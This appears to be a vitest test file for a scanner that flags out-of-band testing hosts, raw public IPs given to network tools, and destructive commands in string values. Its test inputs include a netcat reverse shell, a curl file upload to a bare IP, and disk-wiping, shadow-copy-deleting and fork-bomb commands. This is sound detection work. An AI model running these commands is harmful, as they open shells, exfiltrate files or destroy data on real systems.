// Threat indicators found in string values: request-capture and out-of-band testing hosts.
import { describe, expect, it } from 'vitest'
import { indicatorsIn } from '../../src/scanning/indicators.ts'

const kinds = (value: string) => indicatorsIn(value).map((f) => f.kind)

describe('out-of-band and request-capture hosts', () => {
  it.each([
    'https://cd47846a-6478-4e78-bdb7-2b71e7a270a1.dnshook.site/',
    'https://abc123.requestrepo.com/x',
    'https://www.postb.in/1700000000000-123',
    'https://ptsv3.com/t/abc/post',
    'https://webhook-test.com/0123456789abcdef',
    'https://requestinspector.com/inspect/abc',
    'https://66c0dc0bba6f27ca9a57c4bf.mockapi.io/tron',
    'https://x.oastify.com/',
    'https://yojsvm7n.oast.cz/',
    'https://c59d3ab1.oast.pro/',
  ])('%s is an out-of-band host', (url) => {
    expect(kinds(url)).toContain('oast-host')
  })

  it('matches whole host names only', () => {
    expect(kinds('https://notdnshook.site/')).not.toContain('oast-host')
    expect(kinds('https://toast.com/menu')).not.toContain('oast-host')
    expect(kinds('https://requestrepo.com.example.org/')).not.toContain('oast-host')
  })
})

describe('raw addresses', () => {
  it('counts a bare public address a network tool is given, with or without a port', () => {
    expect(kinds('curl -F a=@/flag 114.115.142.57:10113')).toContain('raw-ip-url')
    expect(kinds('nc 203.0.113.7 4444 -e /bin/sh')).toContain('raw-ip-url')
    expect(kinds('wget -q -O- 198.51.100.20/x.sh')).toContain('raw-ip-url')
  })

  it('leaves private addresses, versions and text without a network tool alone', () => {
    expect(kinds('curl -s 127.0.0.1:8080/health')).not.toContain('raw-ip-url')
    expect(kinds('curl -s 192.168.1.10:8080/health')).not.toContain('raw-ip-url')
    expect(kinds('curl https://example.com/pkg-1.2.3.4.tar.gz')).not.toContain('raw-ip-url')
    expect(kinds('pinned to 114.115.142.57 by the resolver')).not.toContain('raw-ip-url')
  })
})

describe('destructive commands', () => {
  it.each(['poweroff', 'shutdown /s -f -t 0', 'sudo reboot', 'cd /; rm -rf --no-preserve-root /', 'rm -rf ~/*', 'rm -fr $HOME', 'vssadmin delete shadows /all /quiet', 'format C: /q', 'dd if=/dev/zero of=/dev/sda bs=1M', ':(){ :|:& };:'])('%s', (command) => {
    expect(kinds(command)).toContain('destructive-command')
  })

  it.each(['rm -rf build/ dist/', 'rm -rf /tmp/synthetic-cache', 'rm -rf ~/.cache/synthetic', 'register a shutdown_hook', "'{}'.format(x)", 'systemctl restart nginx', 'git reset --hard'])('not %s', (command) => {
    expect(kinds(command)).not.toContain('destructive-command')
  })
})
